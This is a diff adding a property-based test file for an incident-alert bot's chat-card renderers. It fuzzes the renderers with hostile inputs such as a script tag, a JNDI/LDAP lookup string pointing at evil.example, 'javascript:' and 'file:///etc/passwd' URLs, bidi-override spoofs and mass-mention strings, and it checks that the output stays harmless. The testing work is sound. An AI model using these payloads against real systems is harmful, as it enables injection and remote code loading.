@@ -1,0 +1,210 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { announcement } from '../../src/cards/announcement.ts';
+import type { Card, Rich } from '../../src/cards/card.ts';
+import { incidentCard } from '../../src/cards/incident-card.ts';
+import { incidentListCard } from '../../src/cards/list-cards.ts';
+import { plainText } from '../../src/cards/plain-text.ts';
+import { stormCard } from '../../src/cards/storm-card.ts';
+import { whyCard } from '../../src/cards/why-card.ts';
+import type { IncidentView } from '../../src/cards/view.ts';
+import { DIAGNOSIS_STATUSES } from '../../src/diagnose/diagnosis.ts';
+import { type Incident, STATUSES, TIMELINE_KINDS } from '../../src/incident/incident.ts';
+import { EN, OPENED, ZH, alert, incident, storm } from './sample.ts';
+
+/** What strangers write into labels, annotations, chat names and reasons. */
+const hostile = fc.oneof(
+  fc.constantFrom(
+    '<at id=all></at>',
+    '@everyone @all <!channel>',
+    '[x](http://evil.example)',
+    '<script>alert(1)</script>',
+    '**bold** _i_ `code`',
+    '\u202Egnp.exe\u2066',
+    '__proto__',
+    'constructor',
+    '故障'.repeat(3000),
+    '\u200B\u0000\u001B[31m\r\n',
+    '${jndi:ldap://evil.example}',
+    'lark://applink?x',
+  ),
+  fc.string({ unit: 'binary', maxLength: 60 }),
+);
+const url = fc.oneof(
+  hostile,
+  fc.constantFrom(
+    'javascript:alert(1)',
+    'https://user:secret@evil.example/',
+    'http://[::1',
+    'HTTPS://Ex.example/a b',
+    'file:///etc/passwd',
+  ),
+  fc.webUrl(),
+);
+const labels = fc.dictionary(fc.oneof(fc.constantFrom('service', 'pod', 'cluster'), hostile), hostile, { maxKeys: 5 });
+const time = fc.integer({ min: OPENED, max: OPENED + 1e10 });
+const count = fc.integer({ min: 0, max: 500 });
+
+const incidents: fc.Arbitrary<Incident> = fc
+  .record(
+    {
+      status: fc.constantFrom(...STATUSES),
+      title: hostile,
+      summary: hostile,
+      source: hostile,
+      integration: hostile,
+      labels,
+      links: fc.array(fc.record({ kind: fc.constantFrom('graph' as const, 'runbook' as const), url }), {
+        maxLength: 9,
+      }),
+      alertsCount: count,
+      firingCount: count,
+      acknowledgedAt: time,
+      acknowledgedBy: hostile,
+      resolvedAt: time,
+      resolvedBy: hostile,
+      resolvedReason: fc.constantFrom('alerts' as const, 'manual' as const, 'expired' as const),
+      staleSince: time,
+      silencedUntil: time,
+      assignee: hostile,
+      cause: hostile,
+    },
+    { requiredKeys: [] },
+  )
+  .map((changes) => incident(changes));
+
+const views: fc.Arbitrary<IncidentView> = fc.record(
+  {
+    incident: incidents,
+    alerts: fc
+      .array(fc.record({ labels, title: hostile }), { maxLength: 12 })
+      .map((all) => all.map((changes) => alert('x', changes))),
+    hints: fc.array(hostile, { maxLength: 4 }),
+    timeline: fc.array(
+      fc.record({
+        at: time,
+        kind: fc.constantFrom(...TIMELINE_KINDS),
+        actor: fc.record({ id: hostile, name: hostile, via: hostile }),
+        data: fc.dictionary(
+          fc.oneof(fc.constantFrom('text', 'to', 'from', 'reason', 'status', 'cause'), hostile),
+          fc.oneof(hostile, count),
+          { maxKeys: 4 },
+        ),
+      }),
+      { maxLength: 8 },
+    ),
+    diagnosis: fc.record(
+      {
+        id: fc.constant('diag-1'),
+        incidentId: fc.constant('INC-20261122-042'),
+        status: fc.constantFrom(...DIAGNOSIS_STATUSES),
+        provider: hostile,
+        promptVersion: hostile,
+        family: hostile,
+        summary: hostile,
+        causes: fc.array(
+          fc.record({
+            statement: hostile,
+            confidence: fc.double({ min: -1, max: 2, noNaN: true }),
+            evidenceIds: fc.array(hostile, { maxLength: 9 }),
+            key: hostile,
+          }),
+          { maxLength: 5 },
+        ),
+        steps: fc.array(
+          fc.record({ text: hostile, risk: fc.constantFrom('safe' as const, 'dangerous' as const), command: hostile }),
+          { maxLength: 8 },
+        ),
+        evidence: fc.array(
+          fc.record({ id: hostile, source: hostile, title: hostile, query: hostile, text: hostile, at: time, url }),
+          { maxLength: 10 },
+        ),
+        confidence: fc.constant(0.5),
+        createdAt: time,
+        decidedAt: time,
+        decidedBy: hostile,
+        rejectReason: hostile,
+      },
+      { noNullPrototype: true },
+    ),
+    people: fc.array(fc.record({ id: fc.constant('p:1'), name: hostile }), { maxLength: 3 }),
+  },
+  { requiredKeys: ['incident', 'alerts', 'hints', 'timeline'] },
+);
+
+/** Every value under a key of this name, anywhere inside. */
+function under(key: string, value: unknown): readonly unknown[] {
+  if (typeof value !== 'object' || value === null) return [];
+  return Object.entries(value).flatMap(([name, inner]) => [...(name === key ? [inner] : []), ...under(key, inner)]);
+}
+
+/** Every string anywhere inside. */
+function strings(value: unknown): readonly string[] {
+  if (typeof value === 'string') return [value];
+  return typeof value === 'object' && value !== null ? Object.values(value).flatMap(strings) : [];
+}
+
+function expectHarmless(made: Card | Rich): void {
+  expect(under('mention', made)).toEqual([]);
+  for (const address of under('url', made)) {
+    const parsed = new URL(String(address));
+    expect(parsed.protocol).toMatch(/^https?:$/u);
+    expect([parsed.username, parsed.password]).toEqual(['', '']);
+    expect(under('host', made)).toContain(parsed.host);
+  }
+  for (const text of strings(made)) {
+    expect(text).not.toMatch(/[\p{Cc}\u061C\u200B-\u200F\u202A-\u202E\u2060-\u2069\uFEFF]/u);
+    expect(text.isWellFormed()).toBe(true);
+    expect(text.length).toBeLessThanOrEqual(2000);
+  }
+}
+
+describe('text of strangers', () => {
+  it('can be nothing but text in an incident card, and never breaks one', () => {
+    fc.assert(
+      fc.property(views, fc.constantFrom(ZH, EN), (view, context) => {
+        const card = incidentCard(view, context);
+        expectHarmless(card);
+        expect(incidentCard(structuredClone(view), context)).toEqual(card);
+        expect(JSON.stringify(card).length).toBeLessThan(60_000);
+        for (const value of under(
+          'value',
+          card.blocks.filter(({ kind }) => kind === 'buttons'),
+        )) {
+          expect(value).toMatchObject({ incident_id: 'INC-20261122-042', rev: 7 });
+        }
+      }),
+    );
+  });
+
+  it('can be nothing but text in storms, lists, why and announcements', () => {
+    fc.assert(
+      fc.property(fc.array(incidents, { maxLength: 4 }), views, hostile, (listed, view, text) => {
+        expectHarmless(stormCard(storm({ listed }), ZH));
+        expectHarmless(incidentListCard(listed, EN));
+        const place = {
+          target: text,
+          shownRevision: 0,
+          wantedRevision: 1,
+          attempts: 1,
+          parkedReason: text,
+          lastError: text,
+        };
+        const attempt = { at: OPENED, target: text, verb: text, outcome: text, latencyMs: 1, error: text };
+        const { incident: subject, timeline } = view;
+        expectHarmless(whyCard({ incident: subject, places: [place], attempts: [attempt], timeline }, ZH));
+        for (const reason of ['assigned', 'resolved'] as const) {
+          expectHarmless(announcement({ incident: subject, reason, mentions: [] }, EN));
+        }
+      }),
+    );
+  });
+
+  it('stays on its line in the text form', () => {
+    const card = incidentCard(
+      { incident: incident({ title: 'a\n@everyone\r\nb' }), alerts: [], hints: [], timeline: [] },
+      ZH,
+    );
+    expect(plainText(card).split('\n')[0]).toBe('严重 · a @everyone b');
+  });
+});
